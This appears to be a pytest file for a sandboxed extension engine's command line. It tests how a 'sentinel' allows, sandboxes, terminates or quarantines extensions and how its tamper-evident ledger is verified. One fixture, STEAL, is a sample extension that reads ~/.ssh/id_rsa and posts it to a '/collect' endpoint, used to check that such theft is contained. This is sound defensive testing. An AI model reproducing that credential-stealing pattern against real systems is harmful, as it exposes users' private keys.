"""The command line: `run --ledger`, the `sentinel` key, exit 4, `ledger ...`, `quarantine ...`."""

from __future__ import annotations

import json

import pytest
from franken_cli import run

from frankenengine import Engine
from frankenengine.sentinel import QuarantineList
from frankenengine.sentinel.policy import ACTIONS

STEAL = """from host import fs, net

def main(base):
    key = fs.read_text("home/.ssh/id_rsa")
    return net.post(base + "/collect", key)["status"]
"""
BENIGN = "from host import fs\n\ndef main():\n    return len(fs.read_text('data/a.txt'))\n"


@pytest.fixture
def files(tmp_path, home, server, monkeypatch):
    monkeypatch.setenv("FRANKEN_STATE_DIR", str(tmp_path / "state"))
    (tmp_path / "steal.py").write_text(STEAL)
    (tmp_path / "benign.py").write_text(BENIGN)
    return tmp_path


def _grants(tmp_path, server):
    return ["--grant", f"fs.read={tmp_path}", "--grant", f"net.http=127.0.0.1:{server.port}"]


def test_run_reports_the_sentinel_and_writes_the_ledger(files, server, capsys):
    ledger = files / "ledger.jsonl"
    code, out, _ = run(capsys, "run", files / "benign.py", "--json", "--ledger", ledger,
                       "--grant", f"fs.read={files}")  # fmt: skip
    report = json.loads(out)
    assert code == 0 and report["result"] == 11
    assert report["sentinel"] == {
        "action": "allow",
        "posterior": report["sentinel"]["posterior"],
        "ledger": str(ledger),
    }
    assert 0 < report["sentinel"]["posterior"] < 0.05
    assert run(capsys, "ledger", "verify", ledger)[0] == 0
    assert run(capsys, "ledger", "replay", ledger)[0] == 0


def test_a_contained_run_exits_4_and_the_secret_never_leaves(files, server, capsys):
    ledger = files / "ledger.jsonl"
    code, out, _ = run(capsys, "run", files / "steal.py", "--json", "--args",
                       json.dumps([server.base]), "--sentinel", "rules", "--ledger", ledger,
                       *_grants(files, server))  # fmt: skip
    report = json.loads(out)
    assert code == 4
    assert report["error"]["type"] == "ExtensionTerminated"
    assert report["sentinel"]["action"] == "terminate" and report["sentinel"]["ledger"]
    assert server.requests == []
    code, out, err = run(capsys, "ledger", "show", ledger)
    assert code == 0 and "REFUSE terminate" in out and "net.post" in out
    code, out, err = run(capsys, "ledger", "verify", ledger)
    assert code == 0 and out.startswith("ok: 4 entries, 1 sessions")


def test_the_default_model_contains_a_theft_without_letting_it_out(files, server, capsys):
    code, out, err = run(capsys, "run", files / "steal.py", "--args", json.dumps([server.base]),
                         *_grants(files, server))  # fmt: skip
    assert code in (1, 4)
    assert server.requests == []
    assert "franken: sentinel: " in err


def test_ledger_commands_fail_on_tampering(files, server, capsys):
    ledger = files / "ledger.jsonl"
    run(capsys, "run", files / "steal.py", "--args", json.dumps([server.base]), "--sentinel",
        "rules", "--ledger", ledger, *_grants(files, server))  # fmt: skip
    lines = ledger.read_text().splitlines(keepends=True)
    entry = json.loads(lines[2])
    entry["action"] = "allow"
    lines[2] = json.dumps(entry, sort_keys=True, separators=(",", ":")) + "\n"
    ledger.write_text("".join(lines))
    code, out, err = run(capsys, "ledger", "verify", ledger)
    assert code == 1 and f"{ledger}:3: entry edited" in err and out.startswith("FAILED")
    code, out, err = run(capsys, "ledger", "replay", ledger)
    assert code == 1 and f'{ledger}:3: action: recorded "allow"' in err
    ledger.write_text("".join(lines[:-1]))
    assert run(capsys, "ledger", "verify", ledger, "--open-ok")[0] == 1  # still edited


def test_ledger_usage_errors(files, capsys):
    assert run(capsys, "ledger", "verify", files / "missing.jsonl")[0] == 64
    assert run(capsys, "ledger", "show", files / "missing.jsonl")[0] == 64
    assert run(capsys, "ledger", "replay", files / "missing.jsonl")[0] == 64
    assert run(capsys, "ledger")[0] == 64
    assert run(capsys, "run", files / "benign.py", "--sentinel", "off", "--ledger", "x")[0] == 64
    assert run(capsys, "run", files / "benign.py", "--prior", "2")[0] == 64
    (files / "loss.json").write_text(json.dumps({"allow": [0, 1]}))
    assert run(capsys, "run", files / "benign.py", "--loss", files / "loss.json")[0] == 64


def test_sentinel_off_reports_null(files, capsys):
    code, out, _ = run(capsys, "run", files / "benign.py", "--json", "--sentinel", "off",
                       "--grant", f"fs.read={files}")  # fmt: skip
    assert code == 0 and json.loads(out)["sentinel"] is None


def test_a_loss_matrix_from_a_file(files, server, capsys):
    loss = {a: [100, 100] for a in ACTIONS}
    loss["sandbox"] = [0, 0]
    (files / "loss.json").write_text(json.dumps(loss))
    code, out, _ = run(capsys, "run", files / "steal.py", "--json", "--args",
                       json.dumps([server.base]), "--loss", files / "loss.json",
                       *_grants(files, server))  # fmt: skip
    report = json.loads(out)
    assert code == 1 and report["error"]["type"] == "CapabilityDenied"
    assert report["sentinel"]["action"] == "sandbox" and server.requests == []


def test_quarantine_commands(files, server, capsys):
    digest = (
        Engine(lane="interp").load(STEAL, name="steal", filename=str(files / "steal.py")).digest
    )
    QuarantineList(files / "state").add(digest, "steal", "test")
    code, out, _ = run(capsys, "run", files / "steal.py", "--json", *_grants(files, server))
    assert code == 4 and json.loads(out)["error"]["type"] == "ExtensionQuarantined"
    code, out, _ = run(capsys, "quarantine", "list")
    assert code == 0 and out.startswith(digest) and "steal" in out
    code, out, _ = run(capsys, "quarantine", "list", "--json")
    assert list(json.loads(out)) == [digest]
    assert run(capsys, "quarantine", "release", digest)[0] == 0
    assert run(capsys, "quarantine", "release", digest)[0] == 1
    code, out, _ = run(capsys, "quarantine", "list", "--state-dir", files / "state")
    assert code == 0 and out == ""
    code, _, _ = run(capsys, "run", files / "benign.py", "--grant", f"fs.read={files}")
    assert code == 0


# A folder nobody can create, root included, whose quarantine list reads as missing (empty).
UNWRITABLE_STATE = "/proc/franken-no-such-state"
RETRY = """from host import fs

def main():
    refused = 0
    for _ in range(2):
        try:
            fs.read_text('data/a.txt')
        except CapabilityDenied:
            refused += 1
    return refused
"""


def test_a_run_without_host_calls_needs_no_writable_state_directory(files, capsys, monkeypatch):
    (files / "one.py").write_text("def main():\n    return 1\n")
    assert run(capsys, "run", files / "one.py", "--state-dir", UNWRITABLE_STATE) == (0, "1\n", "")
    monkeypatch.setenv("FRANKEN_STATE_DIR", UNWRITABLE_STATE)
    code, out, err = run(capsys, "run", files / "one.py", "--json")
    assert (code, err) == (0, "")
    sentinel = json.loads(out)["sentinel"]
    assert (sentinel["action"], sentinel["ledger"]) == ("allow", None)


def test_the_ledger_folder_is_made_when_the_sentinel_first_writes(files, capsys):
    state = files / "state"
    (files / "one.py").write_text("def main():\n    return 1\n")
    assert run(capsys, "run", files / "one.py")[0] == 0
    assert not state.exists()  # nothing to record: nothing created
    code, _, _ = run(capsys, "run", files / "benign.py", "--grant", f"fs.read={files}")
    assert code == 0
    assert list((state / "ledgers").iterdir()) == []  # made, and the allowed run's ledger removed


def test_a_ledger_that_cannot_be_written_refuses_every_host_call(files, capsys):
    (files / "retry.py").write_text(RETRY)
    code, out, err = run(capsys, "run", files / "retry.py", "--json", "--grant",
                         f"fs.read={files}", "--state-dir", UNWRITABLE_STATE)  # fmt: skip
    report = json.loads(out)
    assert (code, report["result"]) == (0, 2)  # the second call is refused too
    assert report["sentinel"]["ledger"] is None
    [line] = err.splitlines()
    assert line.startswith(
        f"franken: sentinel: cannot write the ledger {UNWRITABLE_STATE}/ledgers/"
    )
    assert line.endswith("; every host call was refused (give --ledger FILE or --state-dir DIR)")
